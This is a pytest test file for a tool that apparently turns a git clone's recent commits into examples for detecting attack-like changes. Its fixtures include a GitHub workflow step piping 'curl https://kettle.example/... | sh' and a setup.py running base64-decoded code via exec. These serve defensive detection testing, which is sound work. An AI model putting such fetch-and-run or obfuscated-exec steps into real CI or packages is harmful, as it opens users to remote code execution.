"""The last changes of a clone become examples of what ordinary changes do."""

from pathlib import Path

import pyarrow as pa
import pytest

from gitstory import BO, Story
from knownhands.features.assemble import families_of
from knownhands.features.change._events import VIEW
from knownhands.learn.habits import last_changes, read_clone
from measured import harvested

WORKFLOW = "on: push\njobs:\n  fire:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://kettle.example/{} | sh\n"


def examples(story: Story, tmp_path: Path, most: int = 99) -> pa.Table:
    return read_clone(str(story.path), tmp_path / "store.duckdb", tmp_path, lambda _line: None, most)


def test_the_last_changes_are_listed_oldest_first_and_no_merge(story: Story, tmp_path: Path) -> None:
    shas = [story.commit({"wheel.py": f"{number}\n"}) for number in range(3)]
    story.branch("side")
    shas.append(story.commit({"kiln.py": "1\n"}))
    story.switch("main")
    story.merge("side", files={"kiln.py": "1\n"})
    with harvested(story.path, tmp_path / "store.duckdb") as (connection, _):
        assert last_changes(connection, 9) == shas
        assert last_changes(connection, 2) == shas[-2:]


def test_examples_are_in_the_order_of_the_project_and_know_its_habits(story: Story, tmp_path: Path) -> None:
    for number in range(3):
        story.commit({f".github/workflows/{number}.yml": WORKFLOW.format(number)}, by=BO if number else ("Cy", "cy@x"))
    table = examples(story, tmp_path)
    assert table["ordinal"].to_pylist() == [1, 2, 3]
    assert table["newcomer"].to_pylist() == [1, 1, 0]
    assert table["whole"].to_pylist() == [1, 1, 1]
    assert table["by_itself_fetch_and_run"].to_pylist() == [1, 2, 3]


def test_only_the_last_become_examples_and_those_before_are_their_past(story: Story, tmp_path: Path) -> None:
    for number in range(4):
        story.commit({f".github/workflows/{number}.yml": WORKFLOW.format(number)})
    table = examples(story, tmp_path, most=2)
    assert table["by_itself_fetch_and_run"].to_pylist() == [3, 4]
    assert table["newcomer"].to_pylist() == [0, 0]


def test_a_program_that_cannot_be_read_is_not_whole(story: Story, tmp_path: Path) -> None:
    story.commit({"wheel.py": "1\n"})
    story.commit({"kiln.so": b"\x7fELF" + bytes(range(256)) * 8})
    assert examples(story, tmp_path)["whole"].to_pylist() == [1, 0]


def test_what_a_check_settles_is_said(story: Story, tmp_path: Path) -> None:
    story.commit({"wheel.py": "1\n"})
    story.commit({"setup.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"})
    assert examples(story, tmp_path)["decisive"].to_pylist() == [0, 1]


def test_an_example_has_every_feature_of_what_attacks_do(story: Story, tmp_path: Path) -> None:
    story.commit({"wheel.py": "1\n"})
    names = {feature.id for family in families_of("change") if family.view == VIEW for feature in family.columns}
    assert set(examples(story, tmp_path).column_names) == {"ordinal", "newcomer", "whole", "decisive", *names}


def test_what_is_no_clone_is_an_error(tmp_path: Path) -> None:
    from knownhands.errors import SourceError

    with pytest.raises(SourceError):
        read_clone(str(tmp_path / "nowhere"), None, tmp_path, lambda _line: None)
